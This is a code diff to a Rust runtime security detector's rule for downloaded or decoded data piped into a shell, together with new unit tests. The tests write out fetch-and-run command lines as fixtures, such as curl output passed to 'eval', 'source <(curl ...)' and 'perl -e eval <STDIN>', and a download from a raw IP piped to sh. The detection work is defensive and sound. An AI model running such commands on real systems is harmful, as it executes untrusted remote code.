@@ -7,6 +7,7 @@ use bstr::ByteSlice as _;
 
 use super::bare_shells::{BareShells, bare, from_descriptor};
 use super::script_paths::locate_from;
+use super::typed_texts::{runs_decoded, runs_input, sources_output};
 use super::{drifted_script, loaded_code};
 use crate::detect::memory::BESIDE;
 use crate::detect::rule_context::RuleContext;
@@ -28,7 +29,8 @@ pub(super) const PIPE: Rule = Rule {
                   -d | sh`; or it was given a whole script as an argument just after a download, \
                   as in `sh -c \"$(curl …)\"`; or an interpreter was given code that decodes more code \
                   and runs it (low when the command itself came from outside, as deployment tools \
-                  send it). Such code is never stored in a file.",
+                  send it). Such code is never stored in a file. At start-up, by the container's own command, \
+                  decoded data is start-up drift, and a download is low by https, else medium.",
         check: "What was downloaded, and from where?",
     },
     handlers: &[Handler::Exec(|ctx, memory, exec| {
@@ -55,7 +57,7 @@ fn whole_script(names: &ProgramAdditions, exec: &Exec) -> bool {
 
 /// Whether the program fetches data, or decodes its input.
 fn is_source(names: &ProgramAdditions, name: &[u8], argv: &[Bytes]) -> bool {
-    let relay = catalog::programs::RELAYS.contains(&name);
+    let relay = program_roles::is_relay(name, argv);
     names.is_downloader(name) && !relay || fetches(names, name, argv) || decodes(names, name, argv)
 }
 
@@ -66,18 +68,6 @@ pub(super) fn fetches(names: &ProgramAdditions, name: &[u8], argv: &[Bytes]) -> 
             let text = a.as_bytes();
             text.contains(&b'(')
                 && (text.find(b"http://").is_some() || text.find(b"https://").is_some())
-        })
-}
-
-/// An interpreter whose text, an argument, decodes data into code and runs it.
-fn runs_decoded(names: &ProgramAdditions, exec: &Exec) -> bool {
-    let name = program_roles::name(&exec.exe, &exec.argv);
-    let has = |text: &[u8], words: &[&[u8]]| words.iter().any(|word| text.find(word).is_some());
-    names.is_interpreter(name)
-        && exec.script.is_none()
-        && program_roles::takes_text(&exec.argv)
-        && exec.argv.iter().skip(1).any(|text| {
-            has(text, catalog::words::DECODING_CALLS) && has(text, catalog::words::RUNNING_CALLS)
         })
 }
 
@@ -100,25 +90,41 @@ fn decoded_text(ctx: &RuleContext<'_>, exec: &Exec) -> Alerts {
     alert.into()
 }
 
-/// A shell runs what a decoder prints: `eval "$(… | base64 -d)"`, `bash <<<$(base64 -d …)`.
+/// The severity of a download that is run. Start-up is the container's own command, whoever wrote
+/// that: without https anybody on the way may have changed the code.
+fn download_severity(ctx: &RuleContext<'_>, from: &str) -> Severity {
+    match ctx.starting_up() {
+        false => Severity::High,
+        true if from.contains("https://") => Severity::Low,
+        true => Severity::Medium,
+    }
+}
+
+/// A shell runs what a decoder or a downloader prints: `eval "$(… | base64 -d)"`, `bash <<<$(base64
+/// -d …)`, `eval "$(curl …)"`.
 fn substituted(ctx: &RuleContext<'_>, exec: &Exec) -> Option<Alerts> {
     let name = program_roles::name(&exec.exe, &exec.argv);
-    if !decodes(ctx.names(), name, &exec.argv) {
+    let decoded = decodes(ctx.names(), name, &exec.argv);
+    let fetched = ctx.names().is_downloader(name) && is_source(ctx.names(), name, &exec.argv);
+    if !decoded && !fetched {
         return None;
     }
     let mut above = ctx.ancestors().skip(1).take(3);
     let shell = above.find(|p| {
         ctx.names().is_shell(program_roles::of(p))
-            && program_roles::shell_text(&p.argv)
-                .is_some_and(|text| loaded_code::runs_output(text, name))
+            && program_roles::shell_text(&p.argv).is_some_and(|text| {
+                loaded_code::runs_output(text, name) || sources_output(text, name)
+            })
     })?;
     let decoder = program_roles::command_line(&exec.argv, &exec.exe, 160);
     let command = program_roles::command_line(&shell.argv, &shell.exe, 160);
-    if ctx.starting_up() {
+    if ctx.starting_up() && decoded {
         return Some(super::startup_drift(ctx, format!("ran {command}")).into());
     }
-    let alert = ctx.alert(Severity::High, decoder.as_bytes(), |explanation| {
-        explanation.title = format!("Ran decoded data in a shell: {command}");
+    let severity = download_severity(ctx, &decoder);
+    let alert = ctx.alert(severity, decoder.as_bytes(), |explanation| {
+        let data = if decoded { "decoded" } else { "downloaded" };
+        explanation.title = format!("Ran {data} data in a shell: {command}");
         explanation.why.push(format!("source: {decoder}"));
     });
     Some(alert.follows(shell.pid).into())
@@ -157,7 +163,7 @@ fn pipe(ctx: &RuleContext<'_>, memory: &BareShells, exec: &Exec) -> Alerts {
     );
     let source = source || prints.is_some();
     let bare = bare(ctx.names(), exec);
-    let takes = bare || whole_script(ctx.names(), exec);
+    let takes = bare || whole_script(ctx.names(), exec) || runs_input(ctx.names(), exec);
     if !takes && !source {
         return Alerts::none();
     }
@@ -188,10 +194,12 @@ fn pipe(ctx: &RuleContext<'_>, memory: &BareShells, exec: &Exec) -> Alerts {
     } else {
         // The interpreter at the end of the pipe may have started first.
         let mut beside = beside.iter().filter_map(|pid| ctx.state.processes.get(pid));
-        beside.find(|p| near(p) && waits(p.pid)).or_else(|| {
-            let parent = ctx.state.processes.get(&ctx.parent_pid(exec))?;
-            (by_descriptor(&parent.argv) && waits(parent.pid)).then_some(parent)
-        })
+        beside
+            .find(|p| near(p) && (waits(p.pid) || runs_input(ctx.names(), &***p)))
+            .or_else(|| {
+                let parent = ctx.state.processes.get(&ctx.parent_pid(exec))?;
+                (by_descriptor(&parent.argv) && waits(parent.pid)).then_some(parent)
+            })
     };
     let Some(other) = found else {
         return Alerts::none();
@@ -213,11 +221,12 @@ fn pipe(ctx: &RuleContext<'_>, memory: &BareShells, exec: &Exec) -> Alerts {
         let (from, into) = if takes { (other, this) } else { (this, other) };
         return drifted_script::judge(ctx, &path, &format!("{from} | {into}"));
     }
-    if ctx.starting_up() {
-        return super::startup_drift(ctx, format!("{this} beside {other}")).into();
-    }
     let (from, into) = if takes { (other, this) } else { (this, other) };
-    let alert = ctx.alert(Severity::High, from.as_bytes(), |explanation| {
+    if ctx.starting_up() && decoded {
+        return super::startup_drift(ctx, format!("{into} beside {from}")).into();
+    }
+    let severity = download_severity(ctx, &from);
+    let alert = ctx.alert(severity, from.as_bytes(), |explanation| {
         let data = if decoded { "Decoded" } else { "Downloaded" };
         explanation.title = format!("{data} data piped into a shell: {from} | {into}");
         explanation.why.push(format!("source: {from}"));
@@ -255,6 +264,71 @@ fn decodes(names: &ProgramAdditions, name: &[u8], argv: &[Bytes]) -> bool {
 mod tests {
     use crate::detect::Severity;
     use crate::detect::testkit::World;
+
+    #[test]
+    fn what_runs_a_download_and_what_reads_it_as_data() {
+        let beside = |reader: &[&str]| {
+            let mut w = World::steady();
+            let init = w.init();
+            let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
+            w.exec(sh, "/usr/bin/curl", &["curl", "-s", "http://x/"]);
+            w.exec(sh, &format!("/usr/bin/{}", reader[0]), reader);
+            !w.all("exec.pipe-to-shell").is_empty()
+        };
+        assert!(beside(&[
+            "python3",
+            "-c",
+            "import sys,os; os.system(sys.stdin.read())"
+        ]));
+        assert!(beside(&["perl", "-e", "local $/; eval <STDIN>"]));
+        assert!(!beside(&[
+            "python3",
+            "-c",
+            "import sys,json; print(json.load(sys.stdin)['a'])"
+        ]));
+        assert!(!beside(&["perl", "-ne", "print if /a/"]));
+        // The program may start before the download.
+        let mut w = World::steady();
+        let init = w.init();
+        let sh = w.exec(init, "/bin/sh", &["sh", "-c", "x"]);
+        w.exec(sh, "/usr/bin/perl", &["perl", "-e", "eval <STDIN>"]);
+        w.exec(sh, "/usr/bin/curl", &["curl", "-s", "http://x/"]);
+        w.only(&["exec.pipe-to-shell"]);
+        let inside = |text: &str| {
+            let mut w = World::steady();
+            let init = w.init();
+            let sh = w.exec(init, "/bin/bash", &["bash", "-c", text]);
+            w.exec(sh, "/usr/bin/curl", &["curl", "-s", "http://x/"]);
+            w.all("exec.pipe-to-shell").len()
+        };
+        for text in [
+            "eval \"$(curl -s http://x/)\"",
+            "source <(curl -s http://x/)",
+            "set -e; . <(curl -s http://x/)",
+        ] {
+            assert_eq!(inside(text), 1, "{text}");
+        }
+        for text in [
+            "ip=$(curl -s http://x/); echo \"$ip\"",
+            "diff <(curl -s http://x/) /srv/a",
+            "while read l; do echo $l; done < <(curl -s http://x/)",
+        ] {
+            assert_eq!(inside(text), 0, "{text}");
+        }
+    }
+
+    #[test]
+    fn the_containers_own_command_may_fetch_code() {
+        let start = |url: &str| {
+            let mut w = World::starting();
+            let init = w.init();
+            w.exec(init, "/usr/bin/curl", &["curl", "-s", url]);
+            w.exec(init, "/bin/sh", &["sh"]);
+            w.finding("exec.pipe-to-shell").severity
+        };
+        assert_eq!(start("http://203.0.113.9/d.sh"), Severity::Medium);
+        assert_eq!(start("https://get.example/install.sh"), Severity::Low);
+    }
 
     #[test]
     fn a_shell_that_runs_what_a_decoder_prints() {
